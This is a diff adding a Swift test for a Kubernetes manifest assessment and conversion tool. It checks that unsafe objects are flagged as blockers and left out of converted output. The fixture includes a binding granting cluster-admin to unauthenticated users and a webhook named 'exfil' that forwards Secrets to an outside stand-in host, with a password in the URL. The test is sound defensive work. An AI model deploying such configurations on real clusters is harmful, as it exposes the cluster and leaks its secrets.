@@ -265,4 +265,67 @@ final class ConvertExposureTests: XCTestCase {
         let changes = files.filter { $0.key.hasSuffix("CHANGES.md") }.values.joined()
         XCTAssertTrue(changes.contains("`Service/ingress-nginx/ingress-nginx-controller` not written: it fronts only Deployment/ingress-nginx/ingress-nginx-controller"), changes)
     }
+
+    /// A binding that gives cluster-admin to system:unauthenticated and a webhook that sends Secrets to an outside URL (with a
+    /// password in it): blocker findings, and convert writes neither; the default discovery binding and an in-cluster
+    /// webhook are neither found nor left out.
+    func testOpenBindingsAndOutsideWebhooksAreBlockersAndNotWritten() throws {
+        let manifests = """
+            apiVersion: rbac.authorization.k8s.io/v1
+            kind: ClusterRoleBinding
+            metadata: {name: open-admin}
+            roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
+            subjects: [{kind: Group, name: "system:unauthenticated", apiGroup: rbac.authorization.k8s.io}]
+            ---
+            apiVersion: rbac.authorization.k8s.io/v1
+            kind: RoleBinding
+            metadata: {name: everyone-edits, namespace: app}
+            roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit}
+            subjects: [{kind: Group, name: "system:authenticated", apiGroup: rbac.authorization.k8s.io}]
+            ---
+            apiVersion: rbac.authorization.k8s.io/v1
+            kind: ClusterRoleBinding
+            metadata: {name: readers}
+            roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view}
+            subjects: [{kind: Group, name: readers, apiGroup: rbac.authorization.k8s.io}]
+            ---
+            apiVersion: admissionregistration.k8s.io/v1
+            kind: MutatingWebhookConfiguration
+            metadata: {name: exfil}
+            webhooks:
+            - name: exfil.example.com
+              clientConfig: {url: "https://user:hunter2@collector.example.net/admit"}
+              rules: [{apiGroups: [""], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [secrets]}]
+              sideEffects: None
+              admissionReviewVersions: [v1]
+            ---
+            apiVersion: admissionregistration.k8s.io/v1
+            kind: ValidatingWebhookConfiguration
+            metadata: {name: policy}
+            webhooks:
+            - name: policy.example.com
+              clientConfig: {service: {name: policy, namespace: app, path: /validate}}
+              rules: [{apiGroups: [apps], apiVersions: [v1], operations: [CREATE], resources: [deployments]}]
+              sideEffects: None
+              admissionReviewVersions: [v1]
+            """
+        let database = try AppDatabase.inMemory()
+        try importPaths([try writeManifests(["in.yaml": manifests], test: self).path], cluster: "src", into: database)
+        let assessment = try Assessor(database: database, reference: reference).run(target: KubernetesVersion(major: 1, minor: 35), now: fixedNow)
+        let found = assessment.allFindings.filter { $0.checkID == "SEC009" }
+        XCTAssertEqual(Set(found.map { "\($0.kind)/\($0.name)" }), ["ClusterRoleBinding/open-admin", "RoleBinding/everyone-edits", "MutatingWebhookConfiguration/exfil"])
+        XCTAssertTrue(found.allSatisfy { $0.severity == .blocker })
+        XCTAssertFalse(found.contains { $0.message.contains("hunter2") }, "the URL's password reaches the finding")
+        XCTAssertTrue(found.contains { $0.message.contains("collector.example.net") })
+
+        let (_, files) = try convert(manifests)
+        let written = Set(try objects(files).map { "\($0["kind"]?.string ?? "")/\($0["metadata", "name"]?.string ?? "")" })
+        XCTAssertTrue(written.isDisjoint(with: ["ClusterRoleBinding/open-admin", "RoleBinding/everyone-edits", "MutatingWebhookConfiguration/exfil"]), "\(written)")
+        XCTAssertTrue(written.isSuperset(of: ["ClusterRoleBinding/readers", "ValidatingWebhookConfiguration/policy"]), "\(written)")
+        let changes = files.filter { $0.key.hasSuffix("CHANGES.md") }.values.joined()
+        for object in ["ClusterRoleBinding open-admin not written", "RoleBinding app/everyone-edits not written", "MutatingWebhookConfiguration exfil not written"] {
+            XCTAssertTrue(changes.contains("- [ ] " + object), changes)
+        }
+        XCTAssertFalse(files.values.contains { $0.contains("hunter2") })
+    }
 }
